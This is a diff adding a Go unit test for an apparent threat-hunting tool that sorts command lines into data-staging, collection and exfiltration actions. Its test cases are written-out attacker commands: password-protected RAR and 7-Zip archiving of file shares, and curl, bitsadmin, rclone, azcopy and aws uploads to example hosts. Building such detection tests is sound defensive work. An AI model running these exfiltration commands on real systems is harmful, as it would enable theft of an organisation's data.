@@ -1,0 +1,94 @@
+package exposure
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/spoor-hunt/spoor/internal/result"
+)
+
+// recogniseLine is the first data movement of a command line's commands.
+func recogniseLine(line, cwd string) (action, bool) {
+	for _, c := range Commands(line) {
+		if a, ok := recognise(c, cwd); ok {
+			return a, true
+		}
+	}
+	return action{}, false
+}
+
+func TestRecognise(t *testing.T) {
+	const mib = 1 << 20
+	for _, tc := range []struct {
+		name, line, cwd string
+		want            action
+	}{
+		{"rar password, headers, volumes, recursion, relative paths", `rar.exe a -r -hpS3cret -v100m -m5 out\d1 *.dwg`, `D:\Shares\Eng\`,
+			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\Shares\Eng\*.dwg`}, dest: `D:\Shares\Eng\out\d1.rar`, password: true, headers: true, recursive: true, volSize: 100 * mib}},
+		{"rar -p- is no password; a bare -v size is thousands; \\\" is a literal quote (CRT rules)", `"C:\Program Files\WinRAR\rar.exe" a -p- -v500 x.rar "D:\My Docs\"`, `C:\`,
+			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\My Docs`}, dest: `C:\x.rar`, volSize: 500_000}},
+		{"rar list file and -- ending switches", `rar a -pX -- -odd.rar @C:\l.txt`, ``,
+			action{kind: result.ExposureStaged, tool: "rar", dest: `-odd.rar`, password: true, listFile: `C:\l.txt`}},
+		{"rar extraction is no staging", `rar x -pX a.rar C:\out\`, ``, action{}},
+		{"renamed rar by its switches", `C:\Windows\Temp\svc.exe a -hpX -ep1 C:\t\o.rar D:\p\`, ``,
+			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\p\`}, dest: `C:\t\o.rar`, password: true, headers: true}},
+		{"7-Zip password, encrypted headers, 1024-based volumes", `7za.exe a -t7z -pP -mhe=on -v2g C:\t\o.7z \\FS03\Engineering\CAD`, ``,
+			action{kind: result.ExposureStaged, tool: "7-Zip", sources: []string{`\\FS03\Engineering\CAD`}, dest: `C:\t\o.7z`, password: true, headers: true, volSize: 2 << 30}},
+		{"makecab directive file", `makecab /F C:\ProgramData\list.ddf`, ``,
+			action{kind: result.ExposureStaged, tool: "makecab", listFile: `C:\ProgramData\list.ddf`}},
+		{"makecab one file into a folder", `makecab /L C:\t D:\db\erp.bak erp.cab`, ``,
+			action{kind: result.ExposureStaged, tool: "makecab", sources: []string{`D:\db\erp.bak`}, dest: `C:\t\erp.cab`}},
+		{"tar with -C changing the folder of later sources", `tar.exe -czf out.tgz -C D:\src proj`, `C:\t\`,
+			action{kind: result.ExposureStaged, tool: "tar", sources: []string{`D:\src\proj`}, dest: `C:\t\out.tgz`, recursive: true}},
+		{"tar extraction is no staging", `tar -xf a.tar`, `C:\`, action{}},
+		{"Compress-Archive positional and array", `powershell -c "Compress-Archive D:\a,'D:\b c' C:\o.zip"`, ``,
+			action{kind: result.ExposureStaged, tool: "Compress-Archive", sources: []string{`D:\a`, `D:\b c`}, dest: `C:\o.zip`, recursive: true}},
+		{"robocopy with file filters", `robocopy \\FS03\Engineering C:\stage *.dwg *.step /E /R:0`, ``,
+			action{kind: result.ExposureCollected, tool: "robocopy", sources: []string{`\\FS03\Engineering\*.dwg`, `\\FS03\Engineering\*.step`}, dest: `C:\stage`, recursive: true}},
+		{"xcopy recursive", `xcopy D:\src\*.cs C:\t\s\ /s /y`, ``,
+			action{kind: result.ExposureCollected, tool: "xcopy", sources: []string{`D:\src\*.cs`}, dest: `C:\t\s\`, recursive: true}},
+		{"copy from a share, relative destination", `cmd /c copy /y \\fs\c$\d1.rar d1.rar`, `C:\t`,
+			action{kind: result.ExposureCollected, tool: "copy", sources: []string{`\\fs\c$\d1.rar`}, dest: `C:\t\d1.rar`}},
+		{"Copy-Item abbreviated parameters", `powershell Copy-Item -Pat \\fs\eng\*.docx -Dest C:\t -Recurse`, ``,
+			action{kind: result.ExposureCollected, tool: "Copy-Item", sources: []string{`\\fs\eng\*.docx`}, dest: `C:\t`, recursive: true}},
+		{"recursive listing", `cmd /c dir /s /b D:\p\*.dwg`, ``,
+			action{kind: result.ExposureCollected, tool: "dir", sources: []string{`D:\p\*.dwg`}, recursive: true}},
+		{"dir of a share", `cmd /c dir \\FS03\Engineering`, ``,
+			action{kind: result.ExposureCollected, tool: "dir", sources: []string{`\\FS03\Engineering`}}},
+		{"Get-ChildItem -Recurse with a filter", `powershell -c "gci -Path \\FS03\Eng -Filter *.dwg -Recurse -File"`, ``,
+			action{kind: result.ExposureCollected, tool: "Get-ChildItem", sources: []string{`\\FS03\Eng\*.dwg`}, recursive: true}},
+		{"Get-ChildItem of the working folder is discovery", `powershell -c "Get-ChildItem"`, `C:\`, action{}},
+		{"plain dir of a folder is discovery", `cmd /c dir c:\`, ``, action{}},
+		{"share listing", `net view \\FS03 /all`, ``, action{kind: result.ExposureCollected, tool: "net view", sources: []string{`\\FS03`}}},
+		{"curl -T with globbing, grouped short options", `curl.exe -skT "d1.part{1,2}.rar" https://h.example/up/`, `C:\t`,
+			action{kind: result.ExposureExfiltrated, tool: "curl", sources: []string{`C:\t\d1.part1.rar`, `C:\t\d1.part2.rar`}, dest: "https://h.example/up/"}},
+		{"curl form and data files", `curl -F "file=@C:\t\a.zip;type=application/zip" --data-binary @b.7z --url https://x.example/`, `C:\w`,
+			action{kind: result.ExposureExfiltrated, tool: "curl", sources: []string{`C:\t\a.zip`, `C:\w\b.7z`}, dest: "https://x.example/"}},
+		{"curl --upload-file=", `curl --upload-file=C:\a.rar ftp://x.example/`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "curl", sources: []string{`C:\a.rar`}, dest: "ftp://x.example/"}},
+		{"curl download is no upload", `curl -o C:\t\x.exe https://x.example/x.exe`, ``, action{}},
+		{"rclone to a remote", `rclone.exe copy D:\Projects mega:backup --transfers 8`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "rclone", sources: []string{`D:\Projects`}, dest: "mega:backup", recursive: true}},
+		{"bitsadmin upload", `bitsadmin /transfer j /upload /priority high http://x.example/u C:\t\o.zip`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\o.zip`}, dest: "http://x.example/u"}},
+		{"bitsadmin download is no upload", `bitsadmin /transfer j /download http://x/u C:\t\o.exe`, ``, action{}},
+		{"Invoke-RestMethod with -InFile", `pwsh -c "irm -Method Put -InFile C:\o.zip https://blob.example/c/o.zip"`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "Invoke-RestMethod", sources: []string{`C:\o.zip`}, dest: "https://blob.example/c/o.zip"}},
+		{"azcopy to blob storage", `azcopy copy D:\x https://acct.blob.core.windows.net/c?sv=1 --recursive`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "azcopy", sources: []string{`D:\x`}, dest: "https://acct.blob.core.windows.net/c?sv=1"}},
+		{"aws s3 cp", `aws s3 cp C:\o.7z s3://bucket/o.7z`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "aws", sources: []string{`C:\o.7z`}, dest: "s3://bucket/o.7z"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got, ok := recogniseLine(tc.line, tc.cwd)
+			if ok != (tc.want.kind != "") {
+				t.Fatalf("recognised %v, want %v (%+v)", ok, !ok, got)
+			}
+			if got.kind != tc.want.kind || got.tool != tc.want.tool || got.dest != tc.want.dest || !slices.Equal(got.sources, tc.want.sources) ||
+				got.password != tc.want.password || got.headers != tc.want.headers || got.recursive != tc.want.recursive ||
+				got.volSize != tc.want.volSize || got.listFile != tc.want.listFile {
+				t.Errorf("got  %+v\nwant %+v", got, tc.want)
+			}
+		})
+	}
+}
